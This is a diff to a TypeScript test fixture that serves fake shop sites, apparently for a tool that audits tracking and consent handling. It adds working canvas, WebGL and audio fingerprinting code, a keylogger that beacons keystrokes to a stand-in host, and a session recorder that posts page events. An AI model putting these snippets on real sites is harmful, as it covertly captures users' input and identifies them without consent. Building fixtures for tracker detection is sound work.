@@ -7,7 +7,9 @@
  *
  * tracking-shop.test: GA and the Facebook pixel before any consent, a OneTrust-style banner whose
  * "Reject all" autoconsent finds and clicks but that changes nothing (the tags load again after the
- * reload), GPC ignored while /.well-known/gpc.json claims support, a canvas fingerprinter.
+ * reload), GPC ignored while /.well-known/gpc.json claims support, a canvas, WebGL and audio
+ * fingerprinter, a key logger that beacons what is typed into the newsletter field before any submit,
+ * and a session recorder that observes every DOM mutation and input and posts them.
  * honest-shop.test: the same banner, Google Analytics only after "Accept" (never chosen): reject honoured.
  * clean-shop.test: one first-party page, no third party, accessible.
  */
@@ -28,6 +30,8 @@ export const NAMES = {
   fbScript: 'connect.facebook.net',
   fbPixel: 'www.facebook.com',
   fp: 'cdn.fingerprint-fixture.test',
+  keys: 'keys.keylog-fixture.test',
+  replay: 'rec.replay-fixture.test',
 } as const;
 
 export interface FixtureSites {
@@ -38,8 +42,13 @@ export interface FixtureSites {
   /** The generated certificate (its own CA): pass as `ca`. */
   caPem: string;
   resolver: Resolver;
-  /** Every request the server answered: host, path and Sec-GPC. */
-  requests: { host: string; path: string; gpc?: string }[];
+  /** Every request the server answered: host, path, Sec-GPC and the request headers. */
+  requests: {
+    host: string;
+    path: string;
+    gpc?: string;
+    headers: Record<string, string | string[] | undefined>;
+  }[];
   close(): Promise<void>;
 }
 
@@ -83,15 +92,42 @@ x.textBaseline = 'top'; x.font = '14px Arial';
 x.fillStyle = '#f60'; x.fillRect(125, 1, 62, 20);
 x.fillStyle = '#069'; x.fillText('Cwm fjordbank glyphs vext quiz', 2, 15);
 x.fillStyle = 'rgba(102, 204, 0, 0.7)'; x.fillText('Cwm fjordbank glyphs vext quiz', 4, 17);
-window.__fp = c.toDataURL();`;
+window.__fp = c.toDataURL();
+const gl = document.createElement('canvas').getContext('webgl');
+const info = gl && gl.getExtension('WEBGL_debug_renderer_info');
+if (info) window.__gl = [gl.getParameter(info.UNMASKED_VENDOR_WEBGL), gl.getParameter(info.UNMASKED_RENDERER_WEBGL)];
+const ctx = new OfflineAudioContext(1, 5000, 44100);
+const osc = ctx.createOscillator(); osc.type = 'triangle'; osc.frequency.value = 10000;
+const comp = ctx.createDynamicsCompressor(); comp.threshold.value = -50;
+osc.connect(comp); comp.connect(ctx.destination); osc.start(0);
+ctx.oncomplete = (event) => { window.__audio = event.renderedBuffer.getChannelData(0)[4500]; };
+ctx.startRendering();`;
+
+/** Collects every key pressed in any input and beacons them when the field is left, never waiting for a submit. */
+const KEYS_JS = `
+let typed = '';
+document.addEventListener('keydown', (e) => { if (e.target instanceof HTMLInputElement && e.key.length === 1) typed += e.key; }, true);
+document.addEventListener('change', () => { if (typed) navigator.sendBeacon('https://${NAMES.keys}:PORT/k', JSON.stringify({ keys: typed })); }, true);`;
+
+/** A session recorder by behaviour: every mutation of the document, keys and pointer, posted. */
+const REPLAY_JS = `
+const events = [];
+new MutationObserver((m) => events.push(['m', m.length])).observe(document, { subtree: true, childList: true, attributes: true, characterData: true });
+document.addEventListener('keydown', () => events.push(['k']));
+document.addEventListener('mousemove', (e) => events.push(['p', e.clientX, e.clientY]));
+document.body.appendChild(document.createElement('div'));
+setTimeout(() => fetch('https://${NAMES.replay}:PORT/ingest', { method: 'POST', body: JSON.stringify(events), keepalive: true }), 50);`;
 
 const TRACKING_HOME = page(
   'Tracking shop',
-  `<main><h1>Tracking shop</h1><p>Everything on sale.</p></main>
+  `<main><h1>Tracking shop</h1><p>Everything on sale.</p>
+<form action="/subscribe" method="post"><label>E-mail <input type="email" name="email"></label><button>Subscribe</button></form></main>
 ${BANNER}
 <script src="https://${NAMES.ga}:PORT/analytics.js"></script>
 <script src="https://${NAMES.fbScript}:PORT/en_US/fbevents.js"></script>
-<script src="https://${NAMES.fp}:PORT/fp.js"></script>`,
+<script src="https://${NAMES.fp}:PORT/fp.js"></script>
+<script src="https://${NAMES.keys}:PORT/keys.js"></script>
+<script src="https://${NAMES.replay}:PORT/recorder.js"></script>`,
 );
 
 /** A hostile page: reaches for cloud metadata and for localhost, which Chromium would not proxy by default. */
@@ -167,6 +203,13 @@ function route(host: string, pathname: string, port: number): Answer | undefined
       };
     case `${NAMES.fp}/fp.js`:
       return js(FP_JS);
+    case `${NAMES.keys}/keys.js`:
+      return js(KEYS_JS);
+    case `${NAMES.keys}/k`:
+    case `${NAMES.replay}/ingest`:
+      return { status: 204, body: '' };
+    case `${NAMES.replay}/recorder.js`:
+      return js(REPLAY_JS);
     default:
       return undefined;
   }
@@ -191,7 +234,12 @@ export async function startFixtureSites(): Promise<FixtureSites> {
     const host = (req.headers.host ?? '').replace(/:\d+$/, '');
     const pathname = (req.url ?? '/').split('?')[0]!;
     const gpc = req.headers['sec-gpc'];
-    requests.push({ host, path: req.url ?? '/', ...(typeof gpc === 'string' && { gpc }) });
+    requests.push({
+      host,
+      path: req.url ?? '/',
+      ...(typeof gpc === 'string' && { gpc }),
+      headers: req.headers,
+    });
     const answer = route(host, pathname, port);
     if (!answer) {
       res.writeHead(404, { 'content-type': 'text/plain' }).end('not found');
